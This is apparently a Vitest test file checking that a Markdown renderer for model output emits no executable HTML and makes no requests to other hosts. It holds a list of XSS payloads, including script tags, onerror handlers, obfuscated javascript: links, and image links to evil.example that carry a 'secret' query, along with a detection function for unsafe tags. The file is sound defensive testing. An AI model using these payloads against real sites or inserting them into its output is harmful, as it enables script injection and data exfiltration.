/** [Markdown 2] Model output never executes and causes no request to another host. */
import { describe, expect, test } from 'vitest'
import { byBlocks } from './render.tsx'

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<div onclick="alert(1)">x</div>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="javascript:alert(1)"></object>',
  '<form action="https://evil.example"><input name=a></form>',
  '<base href="https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example)',
  '[x](/api/auth/sign-out)',
  '[x](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/a.png)',
  '![x](javascript:alert(1))',
  '![x](/api/checkout)',
  '![x](/api/files/../checkout)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][i]\n\n[i]: https://evil.example/?q=secret',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\na\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[x](https://example.com "\\" onmouseover=alert(1)")',
  'www.example.com/"onmouseover="alert(1)',
  '$\\href{javascript:alert(1)}{x}$',
  '$<img src=x onerror=alert(1)>$',
  '\\(</code><script>alert(1)</script>\\)',
  '$$\n<iframe src="javascript:alert(1)">\n$$',
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"]\n  click A "javascript:alert(1)"\n```',
]

const wrappings: readonly (readonly [name: string, wrap: (payload: string) => string])[] = [
  ['alone', (payload) => payload],
  ['in a sentence', (payload) => `Look: ${payload} there.`],
  ['in a list', (payload) => `- a\n- ${payload.replaceAll('\n', '\n  ')}\n\nb`],
  ['in a quote', (payload) => `> ${payload.replaceAll('\n', '\n> ')}`],
  ['after a block', (payload) => `# h\n\n${payload}\n\nend`],
]

/** All tags of the HTML with their attributes. Text of the answer is escaped and cannot be a tag. */
const tagsIn = (html: string): readonly string[] => html.match(/<[a-z][^>]*>/gi) ?? []

const offences = (html: string): readonly string[] =>
  tagsIn(html).filter((tag) => {
    const name = /^<([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase() ?? ''
    // Quoted values contain no quotes, so the text outside of them is attributes.
    const attributes = tag.replace(/"[^"]*"/g, '""')
    const href = /\shref="([^"]*)"/.exec(tag)?.[1]
    const src = /\ssrc="([^"]*)"/.exec(tag)?.[1]
    return (
      ['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'math'].includes(name) ||
      /\son[a-z]+=/i.test(attributes) ||
      (href !== undefined && !/^(?:https?:\/\/|mailto:|#user-content-)/.test(href)) ||
      (href?.startsWith('http') && !(tag.includes('rel="noopener noreferrer"') && tag.includes('target="_blank"'))) ||
      (src !== undefined && !/^(?:\/api\/files\/|data:image\/(?:png|jpeg|gif|webp|avif);)/.test(src))
    )
  })

/** A plain text, and one where the payload continues a line and a block. The long run cuts all texts. */
const cutWrappings = process.env.PARLEY_LONG ? wrappings.map(([name]) => name) : ['alone', 'in a list']

describe.each(wrappings)('%s', (name, wrap) => {
  test.each(payloads)('%j', (payload) => {
    const text = wrap(payload)
    expect(offences(byBlocks(text))).toEqual([])
    if (!cutWrappings.includes(name)) return
    for (let length = 1; length < text.length; length += 1) expect(offences(byBlocks(text.slice(0, length), true))).toEqual([])
  })
})

test('the check itself detects an attack', () => {
  const bad = ['<script>', '<p onclick="x">', '<a href="javascript:x">', '<a href="https://a.example">', '<img src="https://a.example">']
  expect(offences(bad.join(''))).toEqual(bad)
})

test('a link to the web opens a new tab and sends no referrer', () => {
  expect(byBlocks('[a](https://example.com)')).toBe('<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer">a</a></p>')
})

test("another host's image is a link that shows its host", () => {
  const html = byBlocks('![A map](https://maps.example/m.png)')
  expect(html).toContain('href="https://maps.example/m.png"')
  expect(html).toContain('maps.example</span>')
  expect(html).not.toContain('<img')
})

test.each([
  '>',
  '*',
  '[',
  '`',
  '_a',
  '- ',
  '(',
  '> - ',
  '**a *b ',
  '![',
  '<a ',
  '$',
  '$$',
  '$a ',
  '\\(',
  '\\[',
  '$$\na\n',
  '\\[\n',
  ']',
  '*_',
  'é*\n',
  '<!--',
])('%j ten thousand times does not crash', (unit) => {
  const text = unit.repeat(10_000)
  expect(byBlocks(text).length).toBeGreaterThan(0)
  expect(offences(byBlocks(text, true))).toEqual([])
})

test('three thousand definitions of one used label do not crash', () => {
  const text = `${'[a]: https://example.com\n\n'.repeat(3000)}[a]`
  expect(byBlocks(text)).toContain('href="https://example.com/"')
  expect(offences(byBlocks(text, true))).toEqual([])
})
